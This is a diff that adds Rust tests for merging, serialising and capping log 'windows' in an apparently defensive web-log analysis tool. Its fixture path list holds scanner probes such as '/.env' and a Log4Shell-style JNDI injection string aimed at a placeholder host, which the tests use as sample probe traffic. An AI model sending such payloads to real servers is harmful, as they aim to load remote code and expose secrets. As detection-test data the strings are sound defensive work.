@@ -1,1 +1,209 @@
-//! Tests of `window`.
+//! Merging laws, limits, and bytes of windows.
+
+use std::net::IpAddr;
+
+use relight_model::{Escape, SiteId};
+use testkit::Rng;
+
+use super::*;
+
+const PATHS: [&str; 12] = [
+    "/",
+    "/a",
+    "/b/1",
+    "/b/2",
+    "/.env",
+    "/owa",
+    "/none",
+    "/gone/7",
+    "/vpn/",
+    "/x",
+    "/robots.txt",
+    "/${jndi:ldap://c.example/a}",
+];
+
+fn event(rng: &mut Rng) -> Event<'static> {
+    Event {
+        at: 1_600_000_000 + rng.below(4_000_000) as i64,
+        org: OrgId(rng.below(3) as u32),
+        site: Some(SiteId(rng.below(4) as u32)).filter(|site| site.0 < 3),
+        source: if rng.chance(80) {
+            IpAddr::from([192, 0, 2, rng.below(20) as u8])
+        } else {
+            IpAddr::from([0x2001, 0xdb8, 0, rng.below(5) as u16, 0, 0, 0, rng.below(9) as u16])
+        },
+        host: "www.example.test",
+        method: "GET",
+        path: *rng.pick(&PATHS),
+        query: "",
+        status: *rng.pick(&[200, 302, 401, 404, 404, 404, 500]),
+        bytes_out: 1,
+        referer: *rng.pick(&["", "https://www.example.test/a", "https://other.test/"]),
+        user_agent: "Mozilla/5.0",
+        user: "",
+        escape: Escape::Apache,
+    }
+}
+
+fn window(segment: u64, events: usize, rng: &mut Rng) -> Window {
+    let mut window = Window::new(segment);
+    (0..events).for_each(|_| window.observe(&event(rng)));
+    window
+}
+
+fn merged(windows: &[&Window]) -> Vec<u8> {
+    let mut pool = Window::new(0);
+    windows.iter().for_each(|window| pool.merge(window));
+    pool.to_bytes()
+}
+
+#[test]
+fn merging_is_associative_commutative_and_idempotent() {
+    for seed in 0..50 {
+        let mut rng = Rng::new(seed);
+        let [a, b, c] = [1, 2, 3].map(|segment| window(segment, 120, &mut rng));
+        let whole = merged(&[&a, &b, &c]);
+        for order in [[&a, &c, &b], [&b, &a, &c], [&b, &c, &a], [&c, &a, &b], [&c, &b, &a]] {
+            assert_eq!(merged(&order), whole, "seed {seed}");
+        }
+        let mut left = Window::new(0);
+        [&a, &b].into_iter().for_each(|window| left.merge(window));
+        let mut right = Window::new(0);
+        [&b, &c].into_iter().for_each(|window| right.merge(window));
+        assert_eq!(merged(&[&left, &c]), whole, "seed {seed}");
+        assert_eq!(merged(&[&a, &right]), whole, "seed {seed}");
+        assert_eq!(merged(&[&a, &b, &c, &b, &left, &a]), whole, "seed {seed}");
+    }
+}
+
+#[test]
+fn order_of_lines_and_cuts_do_not_matter() {
+    let mut rng = Rng::new(99);
+    let events: Vec<_> = (0..400).map(|_| event(&mut rng)).collect();
+    let of = |segment: u64, events: &mut dyn Iterator<Item = &Event<'static>>| {
+        let mut window = Window::new(segment);
+        events.for_each(|event| window.observe(event));
+        window
+    };
+    let forth = of(7, &mut events.iter());
+    assert_eq!(forth.to_bytes(), of(7, &mut events.iter().rev()).to_bytes());
+    // Cut in two segments, only the counters are kept apart; contacts and marks are the same.
+    let (head, tail) = events.split_at(150);
+    let mut parts = of(1, &mut head.iter());
+    parts.merge(&of(2, &mut tail.iter()));
+    assert_eq!(parts.contacts, forth.contacts);
+    assert_eq!(parts.stats(), forth.stats());
+    assert_eq!(crate::judge(&parts), crate::judge(&forth));
+}
+
+#[test]
+fn a_segment_read_twice_counts_once() {
+    let mut rng = Rng::new(5);
+    let one = window(8, 50, &mut rng);
+    let mut pool = Window::new(0);
+    pool.merge(&one);
+    pool.merge(&one);
+    assert_eq!(pool.stats().events, 50);
+    assert_eq!(pool.stats(), one.stats());
+}
+
+#[test]
+fn bytes_and_back() {
+    let mut rng = Rng::new(6);
+    let window = window(8, 300, &mut rng);
+    let bytes = window.to_bytes();
+    let back = Window::from_bytes(&bytes).unwrap();
+    assert_eq!(back.to_bytes(), bytes);
+    assert_eq!(crate::judge(&back), crate::judge(&window));
+    assert_eq!(Window::new(1).stats(), WindowStats::default());
+    assert!(bytes.len() < 20_000, "{}", bytes.len());
+}
+
+#[test]
+fn damaged_bytes_are_refused_without_panic() {
+    let mut rng = Rng::new(7);
+    let bytes = window(8, 60, &mut rng).to_bytes();
+    for length in 0..bytes.len() {
+        assert!(Window::from_bytes(&bytes[..length]).is_err(), "{length}");
+    }
+    let mut longer = bytes.clone();
+    longer.push(0);
+    assert_eq!(Window::from_bytes(&longer).unwrap_err().code, "window-trailing");
+    let mut other = bytes.clone();
+    other[8] = 9;
+    assert_eq!(Window::from_bytes(&other).unwrap_err().code, "window-version");
+    for _ in 0..2_000 {
+        let mut damaged = bytes.clone();
+        let at = rng.below(damaged.len());
+        damaged[at] ^= 1 << rng.below(8);
+        // Either refused, or a window that writes itself back as it was read.
+        if let Ok(window) = Window::from_bytes(&damaged) {
+            assert_eq!(window.to_bytes(), damaged);
+        }
+    }
+}
+
+#[test]
+fn one_visit_keeps_its_strongest_contacts() {
+    let paths: Vec<String> = (0..100).map(|number| format!("/w{}", letters(number))).collect();
+    let mut rng = Rng::new(1);
+    let mut event = event(&mut rng);
+    event.status = 404;
+    let mut window = Window::new(1);
+    let mut observe = |path: &str| {
+        let path = path.to_owned();
+        window.observe(&Event { path: &path, ..event.clone() });
+    };
+    paths.iter().for_each(|path| observe(path));
+    observe("/.env");
+    assert_eq!(window.contacts.len(), VISIT_CONTACTS_MAX);
+    assert!(window.contacts.keys().any(|key| key.kind == Kind::Probe), "misses hide no probe");
+    let stats = window.stats();
+    assert!(stats.truncated && stats.contact_overflow > 0);
+    assert_eq!(stats.events, 101);
+}
+
+/// A word without digits for a number, so that path classes differ.
+fn letters(mut number: usize) -> String {
+    let mut word = String::new();
+    for _ in 0..4 {
+        word.push(char::from(b'g' + (number % 16) as u8));
+        number /= 16;
+    }
+    word
+}
+
+#[test]
+fn the_limit_of_contacts_is_reached_and_said() {
+    let mut rng = Rng::new(2);
+    let base = Event { status: 404, path: "/none", ..event(&mut rng) };
+    let [mut one, mut other] = [Window::new(1), Window::new(2)];
+    let half = CONTACTS_MAX as u32 / 2 + 500;
+    for number in 0..2 * half {
+        let [_, b, c, d] = number.to_be_bytes();
+        let source = IpAddr::from([10, b, c, d]);
+        let window = if number % 2 == 0 { &mut one } else { &mut other };
+        window.observe(&Event { source, ..base.clone() });
+    }
+    assert!(!one.stats().truncated);
+    let mut forth = one.clone();
+    forth.merge(&other);
+    let mut back = other.clone();
+    back.merge(&one);
+    assert_eq!(forth.contacts.len(), CONTACTS_MAX);
+    assert!(forth.stats().truncated);
+    assert_eq!(forth.contacts, back.contacts);
+}
+
+#[test]
+fn the_limit_of_segments_is_reached_and_said() {
+    let mut pool = Window::new(0);
+    let counters = Counters { first: 0, last: 0, events: 1, ..Counters::EMPTY };
+    let mut other = Window::new(0);
+    for segment in 0..=SEGMENTS_MAX as u64 {
+        other.counters.insert((segment, OrgId(0)), counters);
+    }
+    pool.merge(&other);
+    assert_eq!(pool.counters.len(), SEGMENTS_MAX);
+    assert!(pool.stats().truncated);
+}
